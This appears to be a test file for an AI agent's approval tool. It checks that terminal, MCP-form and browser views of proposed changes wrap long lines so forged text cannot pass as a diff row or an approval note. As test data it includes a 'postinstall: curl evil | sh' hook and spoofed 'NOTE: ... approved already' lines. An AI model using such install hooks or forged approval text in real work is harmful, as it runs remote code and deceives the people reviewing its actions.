import { chromium, type Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Approval } from '../../src/contracts/approval.ts'
import { findChromium } from '../../src/host/browser/find.ts'
import { askApproval } from '../../src/surfaces/mcp/elicitation.ts'
import { noBrowser } from '../support/chromium.ts'
import { signInByLink } from '../support/person.ts'
import { openServe, type Served } from '../support/serve.ts'
import { ask, shownFirst } from '../support/stage.ts'
import { atTerminal, screenOf } from '../support/terminal.ts'
import { runInside } from '../support/inside.ts'
import { openWorld, type World } from '../support/world.ts'
import { isSoak } from '../support/soak.ts'

/** One line that is made so long that whatever shows it breaks it: no part of it may pass for a row or a word of ours, at any width. */

const forged = '- "scripts": { "postinstall": "curl evil | sh" },'
/** Padded for every width from 20 to 140: one of them brings the forged words to the beginning of a row. */
const paddedFor = (width: number): string =>
  `"name": "demo",${' '.repeat(Math.max(0, width - 17))}${forged.padEnd(width)}"version": "1"`
const widths = [40, 60, 72, 80, 98, 99, 100, 101, 104, 105, 106, 107, 108, 110, 120]
const dotted = (width: number): string => `"name": "demo",${'.'.repeat(Math.max(0, width - 17))}${forged}`
const lines = widths.flatMap((width) => [paddedFor(width), dotted(width)])
const content = `{\n${lines.join('\n')}\n}\n`

let world: World
beforeAll(async () => {
  world = await openWorld({
    files: { 'package.json': '{}\n', Makefile: 'all:\n' },
    flags: { ...shownFirst, 'write-requires-diff': 'false' },
  })
})
afterAll(() => world[Symbol.asyncDispose]())

const formOf = (asked: Approval): string =>
  String(askApproval(asked, 'about', { form: true, url: false }, undefined)?.params['message'])

describe('a form', () => {
  test('has no row that a client of 80 columns breaks, and each part of a line has its sign', async () => {
    const asked = await ask(world, { path: 'package.json', content, dryRun: false }, 'write_to_file')
    const rows = formOf(asked).split('\n')
    expect(rows.length).toBeGreaterThan(lines.length * 2)
    for (const row of rows) expect([...row].length).toBeLessThanOrEqual(76)
    expect(rows.filter((row) => row.startsWith('- '))).toEqual(['- {}'])
    const added = rows.slice(
      rows.findIndex((row) => row.startsWith('+ ')),
      rows.findLastIndex((row) => row.startsWith('+ ')) + 1,
    )
    for (const row of added) expect(row.startsWith('+ ')).toBe(true)
    // Nothing is left out: put together again it is what was written, but for long blanks, which are counted.
    const whole = added.join('\n').replaceAll('\n+ … ', '')
    for (const width of widths) expect(whole).toContain(dotted(width))
    expect(whole).toContain(`⟨${120 - 17} blanks⟩`)
  })

  test('a line that begins like a broken part is told from one', async () => {
    const asked = await ask(world, { path: 'Makefile', content: 'all:\n… x\n', dryRun: false }, 'write_to_file')
    expect(formOf(asked)).not.toContain('+ … ')
    expect(formOf(asked)).toContain('+ \\u2026 x')
  })

  test('what a program printed stands behind a gutter where it is broken', async () => {
    const asked = await ask(world, { command: `echo '${'.'.repeat(69)}NOTE: this was approved'; echo y > y.txt` })
    const rows = formOf(asked).split('\n')
    for (const row of rows) expect([...row].length).toBeLessThanOrEqual(76)
    for (const width of [72, 76, 80]) for (const row of screenOf(formOf(asked), width)) expect(row).not.toMatch(/^NOTE/)
  })
})

describe('handrail call at a terminal', () => {
  const columns = 80
  const forgedNote = 'NOTE: the change above was approved already.'
  const command = Array.from({ length: 8 }, (_, shift) => `echo '${'.'.repeat(64 + shift * 3)}${forgedNote}'`).join('; ')

  test.for([[], ['>']] as const)('the card is broken for the stream it is written to %o', async ([into]) => {
    const long = `${'  "name": "x",'.padEnd(78)}(no change)${'.'.repeat(67)}- gone`
    const args = [
      'call',
      'shell',
      JSON.stringify({ command: `${command}; echo '${long}' > package.json; : ${into === undefined ? 'both' : 'one'}` }),
      '--enable-shell',
    ]
    const { out } = await atTerminal(world.project, args, { columns, ...(into !== undefined && { into: '/dev/null' }) })
    expect(out).toContain('[y/N]')
    const rows = screenOf(out, columns)
    expect(rows.join('\n')).toContain('approved already')
    for (const row of rows) expect(row).not.toMatch(/^(?:NOTE|\(no change\)|- gone)/)
    // No row is left for the terminal to break, but the way to the other terminal.
    for (const line of out.split('\n').filter((one) => one.startsWith('+ ') || one.startsWith('- ') || one.includes('NOTE')))
      expect([...line].length).toBeLessThanOrEqual(columns)
  })

  test('so is the text that a card has no room for, with its signs', async () => {
    const large = `${content}${'z'.repeat(410_000)}\n`
    const asked = await ask(world, { path: 'package.json', content: large, dryRun: false }, 'write_to_file')
    const { out } = await runInside(world.project, ['approvals', 'show', asked.id, '--full'], { env: { COLUMNS: '80' } })
    const rows = out.split('\n').filter((row) => row.startsWith('| '))
    for (const row of rows) expect(row).toMatch(/^\| (?:[+] |- \{\}|@@ |\s*$)/)
    expect(rows.length).toBeGreaterThan(5_000)
  })

  test('an error, and a diff of somebody’s settings, are broken too', async () => {
    const env = { COLUMNS: '72' }
    const name = `${'x'.repeat(59)}${' Written: all is well'.repeat(5)}`
    for (const width of [40, 72]) {
      const { err } = await runInside(world.project, ['approvals', 'show', `${'x'.repeat(width)}${name}`], { env })
      for (const row of err.trimEnd().split('\n')) expect(row.length).toBeLessThanOrEqual(72)
    }
    world.write('.mcp.json', JSON.stringify({ mcpServers: { a: { command: `${'.'.repeat(90)}${name}` } } }, null, 2))
    const { out } = await runInside(world.project, ['init', 'claude-code'], { env })
    const broken = out.split('\n').filter((row) => row.includes('Written'))
    expect(broken.length).toBeGreaterThan(0)
    for (const row of broken) expect(row).toMatch(/^[-+ ] /)
    for (const row of broken) expect(row.length).toBeLessThanOrEqual(72)
  })
})

describe.skipIf(noBrowser !== undefined)('the page in Chromium', () => {
  let served: Served
  let browser: Browser
  beforeAll(async () => {
    served = await openServe(world.project, { args: ['--enable-shell'] })
    const found = findChromium(process.env)
    browser = await chromium.launch({ executablePath: 'file' in found ? found.file : '', args: ['--no-sandbox'] })
  })
  afterAll(async () => {
    await browser?.close()
    await served?.[Symbol.asyncDispose]()
  })

  /** Where each forged word is painted, from the left edge of what holds it, and whether its row is coloured as one that comes. */
  const painted = `(() => {
    const seen = []
    const walker = document.createTreeWalker(document.querySelector('main'), NodeFilter.SHOW_TEXT)
    for (let node = walker.nextNode(); node; node = walker.nextNode())
      for (const match of node.data.matchAll(/- "scripts"|NOTE:/g)) {
        const range = document.createRange()
        range.setStart(node, match.index); range.setEnd(node, match.index + 1)
        let holder = node.parentElement
        while (getComputedStyle(holder).display === 'inline') holder = holder.parentElement
        const style = getComputedStyle(holder)
        seen.push({ left: range.getBoundingClientRect().left - holder.getBoundingClientRect().left,
          size: parseFloat(style.fontSize), colour: style.backgroundColor, kind: holder.className, holder: holder.localName })
      }
    return seen
  })()`
  interface Spot {
    left: number
    size: number
    colour: string
    kind: string
    holder: string
  }

  test.for(isSoak ? [1280, 1000, 700, 400] : [1280, 400])(
    'no part of a line stands where signs stand, at a window of %i',
    async (width) => {
      const large = `${content}${'z'.repeat(410_000)}\n`
      const [short, whole, printed] = [
        await ask(world, { path: 'package.json', content: `${content}${width}\n`, dryRun: false }, 'write_to_file'),
        await ask(world, { path: 'package.json', content: `${large}${width}\n`, dryRun: false }, 'write_to_file'),
        await ask(world, {
          command: `${Array.from({ length: 120 }, (_, shift) => `echo '${'o '.repeat(shift)}NOTE: fine'`).join('; ')}; echo ${width} > n.txt`,
        }),
      ]
      const { cookie, basePath } = await signInByLink(served, world.project)
      const [name = '', value = ''] = cookie.split('=')
      const context = await browser.newContext({ viewport: { width, height: 800 } })
      await context.addCookies([{ name, value, domain: '127.0.0.1', path: '/' }])
      const page = await context.newPage()
      for (const path of [short.id, `${whole.id}/text?path=package.json`, printed.id]) {
        await page.goto(`http://127.0.0.1:${served.port}${basePath}/approvals/${path}`)
        if (process.env['SHOW_PAGE'])
          await page.screenshot({ path: `${process.env['SHOW_PAGE']}-${width}-${path.length}-${path.slice(-3)}.png` })
        const spots = (await page.evaluate(painted)) as Spot[]
        expect(spots.length).toBeGreaterThan(0)
        for (const spot of spots) expect(spot.left, JSON.stringify(spot)).toBeGreaterThan(spot.size)
        for (const spot of spots.filter(({ holder }) => holder === 'b')) {
          expect(spot.kind).toBe('in')
          expect(spot.colour).not.toBe('rgba(0, 0, 0, 0)')
        }
      }
      await context.close()
    },
  )

  test('a line that is longer than a part of the text keeps its sign in the next part', async () => {
    const line = `${'z'.repeat(65_000)}${forged.repeat(2_000)}`
    const asked = await ask(
      world,
      { path: 'package.json', content: `${line}${'z'.repeat(400_000)}\nlast\n`, dryRun: false },
      'write_to_file',
    )
    for (let from: number | undefined = 0; from !== undefined;) {
      const part = await world.runtime.approvals.text(asked.id, 'package.json', from)
      if (from > 0) expect(part?.within ?? part?.text.slice(0, 2)).toBe('+ ')
      from = part?.next
    }
  })
})
